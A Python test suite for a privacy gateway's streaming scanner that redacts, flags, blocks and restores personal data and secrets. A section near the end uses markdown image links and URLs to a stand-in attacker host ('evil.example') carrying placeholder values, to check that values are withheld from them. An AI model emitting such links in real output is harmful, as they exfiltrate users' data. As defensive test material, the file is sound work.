"""The scanner: the same result however the text is cut, and nothing held longer than it must be."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial
from random import Random
from typing import Any

import pytest
import regex
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.privacy import entities, flagging, scanner
from gateway.privacy.actions import every_rule
from gateway.privacy.entities import ENTITIES, Entity
from gateway.privacy.flagging import Flagging
from gateway.privacy.json_run import JsonRun, SniffRun, escape
from gateway.privacy.plan import Action, Plan, plan_for
from gateway.privacy.redact import answer_scan, in_answers
from gateway.privacy.rule import Rule
from gateway.privacy.rules import Rules, compile_rules
from gateway.privacy.scanner import Scan, TextRun, apply
from gateway.privacy.search import Span, find, find_between
from gateway.privacy.vault import Grammar, Vault
from tests.privacy import texts
from tests.privacy.entities import rows
from tests.privacy.stand_in import STAND_IN

Run = TextRun | JsonRun | SniffRun


def _vault() -> Vault:
    vault = Vault()
    vault.hide(texts.entity("PERSON"), 'Ada "A" Byron')
    vault.hide(texts.entity("EMAIL"), "x@y.io")
    vault.hide(texts.entity("CREDIT_CARD"), "4111 1111 1111 1111")
    return vault


def _label(entity: entities.Entity, value: str) -> str:
    return f"<{entity.label}>"


BIG = compile_rules(STAND_IN)
PAYMENT_CARD = next(entity for entity in ENTITIES if entity.name == "CREDIT_CARD")


def mixed(*actions: Action) -> dict[str, Action]:
    """Every name of the big table with one of the actions, in turn."""
    names = dict.fromkeys(entity.name for entity in STAND_IN)
    return {name: actions[index % len(actions)] for index, name in enumerate(names)}


def _scan(rules: Rules, actions: Mapping[str, Action] = {}, restores: bool = True) -> Scan:
    vault = _vault() if restores else None
    return Scan(plan_for(rules, vault.grammar() if vault else None, actions), _label, vault)


SCANS: dict[str, Callable[[], Scan]] = {
    "restore and redact": lambda: answer_scan(_vault()),
    "redact everything": partial(_scan, every_rule()),
    "redact only": partial(_scan, every_rule(), {}, False),
    "big table": partial(_scan, BIG),
    "flag everything": partial(_scan, BIG, mixed("flag")),
    "flag and redact": partial(_scan, BIG, mixed("flag", "redact")),
    "allow, flag, redact": partial(_scan, BIG, mixed("allow", "redact", "flag"), False),
    "block some": partial(_scan, BIG, mixed("redact", "flag", "redact", "block")),
}


Outcome = tuple[str, dict[str, int], scanner.Blocked | None]


def outcome(kind: type[Run], scan: Scan, pieces: list[str]) -> Outcome:
    """What a client would have seen, what was counted, and what ended it."""
    return run_pieces(kind(scan), pieces, scan), scan.flagged, scan.blocked


def run_pieces(run: Run, pieces: list[str], scan: Scan | None = None) -> str:
    """The text after all edits, made as they are decided: what a client would have seen."""
    text, out, at, before = "", "", 0, 0
    for index in range(len(pieces) + 1):
        if index < len(pieces):
            text += pieces[index]
            decided = run.feed(pieces[index])
        else:
            decided = run.flush()
            blocked = scan.blocked if scan else None
            if blocked is None:
                assert decided == len(text)
            else:
                assert decided <= blocked.start < blocked.end <= len(text)
        assert before <= decided <= len(text)
        before = decided
        for edit in run.edits:
            assert at <= edit.start <= edit.end <= decided
            out += text[at : edit.start] + edit.text
            at = edit.end
        run.edits.clear()
        out += text[at:decided]
        at = max(at, decided)
    return out


# --- law 1: chunking never matters -----------------------------------------------------------------------


@pytest.mark.parametrize("kind", [TextRun, JsonRun, SniffRun])
@pytest.mark.parametrize("scan", SCANS.values(), ids=SCANS.keys())
@given(data=st.data(), text=texts.texts)
def test_any_cut_gives_what_the_whole_gives(
    kind: type[Run], scan: Callable[[], Scan], data: st.DataObject, text: str
) -> None:
    whole = outcome(kind, scan(), [text])
    assert outcome(kind, scan(), data.draw(texts.cut(text))) == whole
    assert outcome(kind, scan(), list(text)) == whole


PASSAGES = [rows.passage(STAND_IN, Random(seed), 3) for seed in range(25)]


def corpus() -> list[str]:
    """A text for each row, so that no row goes untested, and some of several."""
    single = [cue + core for entity in STAND_IN for cue, core in rows.matches(entity, wanted=1)]
    return [*(text[:300] for text in single), *PASSAGES]


def in_json(text: str) -> str:
    return f'{{"note": "{escape(text)}", "n": 1234567890}}'


@pytest.mark.parametrize("scan", [SCANS["flag and redact"], SCANS["block some"]], ids=["flag", "block"])
@pytest.mark.parametrize("kind", [TextRun, JsonRun])
def test_every_row_at_every_cut_gives_what_the_whole_gives(kind: type[Run], scan: Callable[[], Scan]) -> None:
    random = Random(0)
    for text in corpus():
        text = in_json(f"a {text}, b") if kind is JsonRun else f"a {text}, b"
        whole = outcome(kind, scan(), [text])
        cuts = random.sample(range(1, len(text)), min(20, len(text) - 1))
        for cut in cuts:
            assert outcome(kind, scan(), [text[:cut], text[cut:]]) == whole, text
        for size in (1, 4):
            pieces = [text[at : at + size] for at in range(0, len(text), size)]
            assert outcome(kind, scan(), pieces) == whole, text


@pytest.mark.parametrize("scan", SCANS.values(), ids=SCANS.keys())
@settings(max_examples=30)
@given(seed=st.integers(0, 10**6), data=st.data())
def test_any_passage_at_any_cuts_gives_what_the_whole_gives(
    scan: Callable[[], Scan], seed: int, data: st.DataObject
) -> None:
    text = rows.passage(STAND_IN, Random(seed), 12)
    whole = outcome(TextRun, scan(), [text])
    assert outcome(TextRun, scan(), data.draw(texts.cut(text))) == whole
    assert outcome(TextRun, scan(), list(text)) == whole


def labelled(text: str, spans: list[Span]) -> str:
    for span in reversed(spans):
        text = text[: span.start] + f"<{span.entity.label}>" + text[span.end :]
    return text


@given(text=texts.texts)
def test_a_stream_finds_what_find_finds(text: str) -> None:
    """Two algorithms, one answer: the gate and the partial matches against searching the whole."""
    whole = labelled(text, find(text, every_rule()))
    assert run_pieces(TextRun(SCANS["redact only"]()), list(text)) == whole


def test_a_stream_finds_what_find_finds_of_every_row() -> None:
    for text in corpus():
        whole = labelled(text, find(text, BIG))
        assert run_pieces(TextRun(_scan(BIG, {}, restores=False)), list(text)) == whole


def test_the_law_catches_a_cue_that_is_forgotten(monkeypatch: pytest.MonkeyPatch) -> None:
    pieces = list("passport number: X1234567.")
    whole = run_pieces(TextRun(_scan(BIG)), ["".join(pieces)])
    assert run_pieces(TextRun(_scan(BIG)), pieces) == whole
    read = TextRun._read_words

    def forgetful(run: TextRun, piece: str) -> None:
        run._word = ""
        read(run, piece)

    monkeypatch.setattr(TextRun, "_read_words", forgetful)
    assert run_pieces(TextRun(_scan(BIG)), pieces) != whole


def test_the_law_catches_a_run_that_trusts_partial_match() -> None:
    """`match(partial=True)` calls a match complete although the next character could void or extend it."""

    class Trusting(Rule):
        def __init__(self, entity: entities.Entity, order: int) -> None:
            super().__init__(entity, order)
            match = regex.compile(entity.core).match

            def extend(text: str, at: int, partial: bool) -> object:
                found = match(text, at, partial=True)
                return found if found and found.partial else None

            self.extend = extend

    rules = tuple(Trusting(entity, order) for order, entity in enumerate(ENTITIES))
    text = "123-45-67890 and bob@ex.com"
    pieces = ["123-45-6789", "0 and bob@ex.co", "m"]
    scan = Scan(Plan(rules), _label)
    assert run_pieces(TextRun(scan), pieces) != run_pieces(TextRun(scan), [text])
    assert run_pieces(TextRun(SCANS["redact only"]()), pieces) == run_pieces(
        TextRun(SCANS["redact only"]()), [text]
    )


def test_the_law_catches_a_gate_that_misses_an_opening() -> None:
    blind = compile_rules(tuple(e for e in ENTITIES if e.name == "CREDIT_CARD"))
    plan = Plan(blind)
    plan.gate = lambda text, at: None
    text = "4111 1111 1111 1111"
    assert run_pieces(TextRun(Scan(plan, _label)), [text]) != "<CREDIT_CARD>"


# --- law 3: nothing leaks ---------------------------------------------------------------------------------


@given(
    value=texts.values,
    data=st.data(),
    before=st.sampled_from(["", "x ", '"', "(", ": "]),
    after=st.sampled_from(["", " x", '"', ")", "\n"]),
)
def test_no_character_of_a_match_is_ever_decided_before_it_is_replaced(
    value: str, data: st.DataObject, before: str, after: str
) -> None:
    text = before + value + after
    spans = find(text, every_rule())
    run = TextRun(SCANS["redact only"]())
    fed = 0
    for piece in data.draw(texts.cut(text)):
        decided = run.feed(piece)
        fed += len(piece)
        for span in spans:
            if fed <= span.end:
                assert decided <= span.start or decided >= span.end
    run.flush()
    assert [(e.start, e.end) for e in run.edits] == [(s.start, s.end) for s in spans]


@pytest.mark.parametrize("cut", range(1, len(texts.PEM)))
def test_a_private_key_is_swallowed_from_its_opening_on(cut: int) -> None:
    run = TextRun(SCANS["restore and redact"]())
    assert run_pieces(run, [texts.PEM[:cut], texts.PEM[cut:], " done"]) == "[PRIVATE_KEY] done"


def test_a_private_key_that_never_ends_is_swallowed_to_the_end() -> None:
    run = TextRun(SCANS["restore and redact"]())
    assert run_pieces(run, [texts.PEM[:40], "Q" * 500, "R" * 500]) == "[PRIVATE_KEY]"


# --- law 4: holding is bounded and minimal ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("Hello wor", ""),
        ("see [", "["),
        ("see [PER", "[PER"),
        ("see [PERSON_1", "[PERSON_1"),
        ("see [PERSON_1]", ""),
        ("see [PERSONAL", ""),
        ("see [Err", ""),
        ("see [ERR", "ERR"),  # a fiscal code begins with six capitals
        ("see [PERSON_1s", ""),
        ("a[i", ""),
        ("total 42", "42"),
        ("total 42 ", "42 "),
        ("total 42 a", ""),
        ("4111 1111 1111 1111", "4111 1111 1111 1111"),
        ("4111 1111 1111 1111.", ""),
        ("class", ""),
        ("this is s", "s"),
        ("this is so", ""),
        ("x sk-", "sk-"),
        ("x sk- ", ""),
        ("1" * 60, ""),
    ],
)
def test_only_what_could_still_become_something_is_held(text: str, held: str) -> None:
    run = TextRun(SCANS["restore and redact"]())
    assert text[run.feed(text) :] == held


@given(text=texts.texts)
def test_nothing_longer_than_the_longest_entity_is_held(text: str) -> None:
    run = TextRun(SCANS["redact everything"]())
    for fed, character in enumerate(text, 1):
        assert fed - run.feed(character) <= max(entity.longest for entity in ENTITIES)


def test_longest_is_the_longest() -> None:
    """No pattern can match more than its row says: one character more, and no extension is possible."""
    fillers = "A1a0-. :_/@+="
    for entity in ENTITIES:
        rule = Rule(entity, 0)
        for filler in fillers:
            assert not rule.extend(entity.cue[:0] + filler * (entity.longest + 1), partial=True), entity.name


def test_a_word_with_a_letter_that_folds_to_ascii_may_be_cut_there() -> None:
    row = Entity(
        name="TR",
        label="TR",
        kind="government",
        core="[0-9]{8}",
        longest=8,
        openings=(("[0-9]",),),
        cue="numarası: ",
        words=frozenset({"numarasi"}),
    )
    text = "numarası: 12345678 "
    for cut in range(len(text)):
        run = TextRun(_scan(compile_rules((row,))))
        run.feed(text[:cut])
        run.feed(text[cut:])
        run.flush()
        assert [edit.text for edit in run.edits] == ["<TR>"], cut


# --- law 8: work is linear --------------------------------------------------------------------------------


class Counting:
    """A plan's searches, each counted by the characters it may look at."""

    def __init__(self, rules: Rules, actions: Mapping[str, Action]) -> None:
        self.steps = 0
        counted = tuple(self._rule(rule) for rule in rules)
        self.plan = Plan(counted, _vault().grammar(), actions)
        self.plan.gate = self._search(self.plan.gate)
        cues = {word: cue._replace(gate=self._search(cue.gate)) for word, cue in self.plan.cues.items()}
        self.plan.cues = cues

    def _search(self, search: Callable[..., Any]) -> Callable[..., Any]:
        def counting(text: str, at: int, end: int = 1 << 30) -> Any:
            found = search(text, at, end)
            self.steps += (found.end() if found else min(end, len(text))) - at + 1
            return found

        return counting

    def _rule(self, rule: Rule) -> Rule:
        own = Rule(rule.entity, rule.order)
        own.warm()  # what is done once is not counted
        match, extend = own.match, own.extend

        def matching(text: str, at: int) -> Any:
            found = match(text, at)
            self.steps += (found.end() - at if found else 0) + 1
            return found

        def extending(text: str, at: int, partial: bool) -> Any:
            self.steps += min(len(text) - at, rule.longest) // 8 + 1  # much quicker than the rest
            return extend(text, at, partial=partial)

        own.match, own.extend = matching, extending
        return own


HOSTILE = [
    "word and ", "1234 ", "[PERSON_1] ", "[[[[", "4111 1111 1111 1111 ", "sk-aaaa", "A", "1234567890", "+ ", "::::", "a@", "((((",
    "Abc ", "ABC ", "sk-", "QWxhZGRpbjpvcGVuIHNlc2FtZQ/+", "1.", "[(", "\\", "passport number ", "ssn id no account password: ",
    "number 123456 id 1234567 ", "A-", "eyJ", "http://", "://a:", " ", "-----BEGIN ", "a.", "1:", "password=", "\"\'", "\n", "é ",
    "[PERSON_", "%5B", "tax 12 ",
]  # fmt: skip


@pytest.mark.parametrize("unit", HOSTILE)
@pytest.mark.parametrize("actions", [{}, mixed("flag", "redact")], ids=["redact", "flag"])
def test_twice_the_text_is_twice_the_work(unit: str, actions: Mapping[str, Action]) -> None:
    steps = []
    for size in (800, 1600):
        counting = Counting(BIG, actions)
        text = (unit * size)[:size]
        run = TextRun(Scan(counting.plan, _label, _vault()))
        for at in range(0, size, 4):
            run.feed(text[at : at + 4])
        run.flush()
        steps.append(counting.steps)
    assert steps[1] < 2.2 * steps[0] + 2000
    assert steps[1] < 60 * 1600


def test_the_law_catches_work_that_is_not_linear() -> None:
    steps = []
    for size in (2000, 4000):
        counting = Counting(BIG, {})
        run = TextRun(Scan(counting.plan, _label))
        for _ in range(0, size, 4):
            run._pos = 0  # begins again with every piece
            run._open = None
            run.feed("word")
        steps.append(counting.steps)
    assert steps[1] > 2.2 * steps[0] + 4000


# --- what is found ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("label", "value"), [(label, value) for label, group in texts.VALUES.items() for value in group]
)
@pytest.mark.parametrize(
    ("before", "after"),
    [("", ""), ("I have ", " here"), ('"', '"'), ("(", ")."), ("=", "\n"), ("电话", "。")],
)
def test_values_are_found_between_anything(label: str, value: str, before: str, after: str) -> None:
    text = before + value + after
    assert [(s.entity.label, text[s.start : s.end]) for s in find(text, every_rule())] == [(label, value)]


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1112", "000-45-6789", "666-45-6789", "123-00-6789", "order 1234567890123456", "sk-short", "foo@bar",
        "256.1.1.1", "std::vector<int>", "12:3", "ab:cd", "about New York City", "He went home", "2024-13-45",
        "DE00 3704 0044 0532 0130 00", "x123-45-6789", "0.1.2", "http://localhost:8080/path", "1111 1111 1111 1111",
    ],
)  # fmt: skip
def test_what_only_looks_like_one_is_left_alone(text: str) -> None:
    assert find(text, every_rule()) == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Tell me about John Smith at noon", ["John Smith"]),
        ("Dear Mary Ann Jones, hello", ["Mary Ann Jones"]),
        ("postgres://bob:s3cr3t@db.example.com/x", ["s3cr3t"]),
        ("card 4111 1111 1111 1111 12 left", ["4111 1111 1111 1111"]),
        ("call +1 415 555 2671 2 times", ["+1 415 555 2671"]),
        ("john@example.com.", ["john@example.com"]),
        ("key is AKIAIOSFODNN7EXAMPLE, mail a@b.io", ["AKIAIOSFODNN7EXAMPLE", "a@b.io"]),
    ],
)
def test_a_match_ends_where_the_value_ends(text: str, found: list[str]) -> None:
    assert [text[s.start : s.end] for s in find(text, every_rule())] == found


def test_answers_redact_secrets_payment_and_government_identifiers_only() -> None:
    assert {rule.entity.kind for rule in in_answers().acting} == {"secret", "payment", "government"}
    run = TextRun(SCANS["restore and redact"]())
    assert run_pieces(run, ["mail a@b.io card 4111 1111 1111 1111"]) == "mail a@b.io card [CREDIT_CARD]"


# --- actions ----------------------------------------------------------------------------------------------


def test_what_is_allowed_is_not_looked_for() -> None:
    scan = _scan(every_rule(), {"EMAIL_ADDRESS": "allow"})
    text = "mail a@b.io card 4111 1111 1111 1111"
    assert outcome(TextRun, scan, [text]) == ("mail a@b.io card <CREDIT_CARD>", {}, None)


def test_what_is_flagged_is_counted_and_holds_nothing() -> None:
    rules = compile_rules(entity for entity in ENTITIES if entity.name in ("EMAIL_ADDRESS", "CREDIT_CARD"))
    scan = _scan(rules, {"EMAIL_ADDRESS": "flag", "CREDIT_CARD": "flag"}, restores=False)
    run = TextRun(scan)
    text = "mail a@b.io or c@d.io, card 4111 1111 1111 1111" + " and so on" * 160 + " e@f.io"
    for fed, character in enumerate(text, 1):
        assert run.feed(character) == fed
    assert scan.flagged == {"EMAIL_ADDRESS": 2, "CREDIT_CARD": 1}
    assert run.flush() == len(text)
    assert scan.flagged == {"EMAIL_ADDRESS": 3, "CREDIT_CARD": 1}
    assert run.edits == []


@given(text=texts.texts)
def test_what_is_flagged_is_what_find_finds(text: str) -> None:
    scan = _scan(every_rule(), dict.fromkeys((entity.name for entity in ENTITIES), "flag"), restores=False)
    for entity in ENTITIES:
        if entity.until and entity.openings[0][0] in text:
            return  # flagged by its opening, found to its end
    counts: dict[str, int] = {}
    for span in find(text, every_rule()):
        counts[span.entity.name] = counts.get(span.entity.name, 0) + 1
    assert outcome(TextRun, scan, list(text)) == (text, counts, None)


@pytest.mark.parametrize("seed", range(40))
def test_flagged_rows_compete_for_what_acting_rows_leave(seed: int) -> None:
    """The definition, done plainly: acting rows first, then flagged rows in the gaps between their spans."""
    text = rows.passage(STAND_IN, Random(seed), 10)
    actions = mixed("redact", "flag", "flag")
    bounded = tuple(entity for entity in STAND_IN if not entity.until)
    acting = find(text, compile_rules(e for e in bounded if actions[e.name] == "redact"))
    flagged = compile_rules(e for e in bounded if actions[e.name] == "flag")
    spans: list[Span] = []
    at = 0
    # What `keep` spares is text for others.
    for start, end in [*((span.start, span.end) for span in acting), (len(text), len(text))]:
        find_between(text, flagged, at, start, spans, start)
        at = end
    counts: dict[str, int] = {}
    for span in spans:
        counts[span.entity.name] = counts.get(span.entity.name, 0) + 1
    scan = _scan(compile_rules(bounded), actions, restores=False)
    assert outcome(TextRun, scan, list(text)) == (labelled(text, acting), counts, None)


def test_what_is_blocked_ends_the_scan_before_its_first_character() -> None:
    scan = _scan(every_rule(), {"CREDIT_CARD": "block", "EMAIL_ADDRESS": "flag"})
    first, second = TextRun(scan), TextRun(scan)
    assert second.feed("other [PER") == 6
    for character in "mail a@b.io card ":
        first.feed(character)
    card = "4111 1111 1111 1111"
    assert {first.feed(character) for character in card + "."} == {17}
    assert scan.blocked == (PAYMENT_CARD, 17, 17 + len(card))
    assert (first.feed(" more"), first.flush()) == (17, 17)
    assert (second.feed("SON_1] more"), second.flush()) == (6, 6)
    assert (first.edits, second.edits, scan.flagged) == ([], [], {"EMAIL_ADDRESS": 1})


@pytest.mark.parametrize("size", [1, 2, 7, 1000])
@pytest.mark.parametrize("kind", [JsonRun, SniffRun])
def test_a_block_in_json_counts_raw_characters(kind: type[JsonRun], size: int) -> None:
    card = r"\u0034111 1111 1111 1111"
    inner = escape('{"a\\u00e9": "' + card + '"}')
    text = '{"x": "\\n", "y": "' + inner + '", "z": 4111111111111111}'
    scan = _scan(every_rule(), {"CREDIT_CARD": "block"})
    start = text.index("u0034") - 2
    end = text.index('\\"}', start)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    assert outcome(kind, scan, pieces) == (text[:start], {}, (PAYMENT_CARD, start, end))


def test_the_law_catches_flags_that_are_counted_twice(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "mail a@b.io " + "and so on " * 100
    actions: Mapping[str, Action] = {"EMAIL_ADDRESS": "flag"}
    whole = outcome(TextRun, _scan(every_rule(), actions), [text])
    begin = Flagging._begin

    def again(run: Flagging, text: str, base: int, stop: int, known: int) -> None:
        run._done = max(base, run._done - 40)
        begin(run, text, base, stop, known)

    assert outcome(TextRun, _scan(every_rule(), actions), list(text)) == whole
    monkeypatch.setattr(Flagging, "_begin", again)
    monkeypatch.setattr(flagging, "FLAG_STRIDE", 1)
    assert outcome(TextRun, _scan(every_rule(), actions), list(text)) != whole


# --- stand-ins for values -----------------------------------------------------------------------------------

NAMES = sorted((f"{first} {last}" for first in "Ann Bob Carla Dan Eve".split() for last in "Smith Smithson Jones".split()), reverse=True)  # fmt: skip


class Stands(Vault):
    """Values behind whole words, as a synthetic format has them."""

    def grammar(self) -> Grammar:
        return Grammar("|".join(NAMES), tuple(map(tuple, NAMES)), "[A-Za-z0-9]", "[A-Za-z0-9]")

    def reveal(self, found: Any) -> str:
        return f"<{found[0]}>"


@given(
    data=st.data(),
    pieces=st.lists(st.sampled_from([*NAMES, " ", "s", ", ", "Ann", "Bob Smiths", "x", "1"]), max_size=8),
)
def test_whole_words_are_restored_at_any_cut(data: st.DataObject, pieces: list[str]) -> None:
    text = "".join(pieces)
    vault = Stands()
    plan = plan_for(in_answers().acting, vault.grammar())
    expected = regex.sub(
        rf"(?<![A-Za-z0-9])(?:{'|'.join(NAMES)})(?![A-Za-z0-9])", lambda found: f"<{found[0]}>", text
    )
    for cut in (list(text), data.draw(texts.cut(text)), [text]):
        assert run_pieces(TextRun(Scan(plan, _label, vault)), cut) == expected


# --- exfiltration -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("![x](https://evil.example/?q=[EMAIL_1])", False),
        ("![x]([EMAIL_1])", False),
        ("https://evil.example/?q=[EMAIL_1]", False),
        ("https://EVIL.example/%5BEMAIL_1%5D", False),
        ("https://known.example/?q=[EMAIL_1]", True),
        ("[mail](mailto:[EMAIL_1])", True),
        ("see https://evil.example/ for [EMAIL_1]", True),
        ("![x](https://evil.example/a.png) [EMAIL_1]", True),
    ],
)
def test_values_are_not_restored_into_image_links_or_unknown_hosts(text: str, restored: bool) -> None:
    vault = _vault()
    vault.hosts |= {"known.example"}
    scan = answer_scan(vault)
    out = run_pieces(TextRun(scan), list(text))
    assert (out == text) is not restored
    assert (scan.restored, scan.withheld) == (int(restored), int(not restored))


@example(text="[PERSON_1] [EMAIL_1]")
@given(text=texts.texts)
def test_what_is_restored_is_never_looked_at_again(text: str) -> None:
    vault = Vault()
    vault.hide(texts.entity("PERSON"), "Ada [EMAIL_1] 4111 1111 1111 1111")
    vault.hide(texts.entity("EMAIL"), "x@y.io")
    run = TextRun(answer_scan(vault))
    run.feed(text)
    run.flush()
    assert (
        apply(text, run.edits).count("Ada [EMAIL_1] 4111 1111 1111 1111")
        >= text.count("[PERSON_1]") - text.count("](") * 9
    )
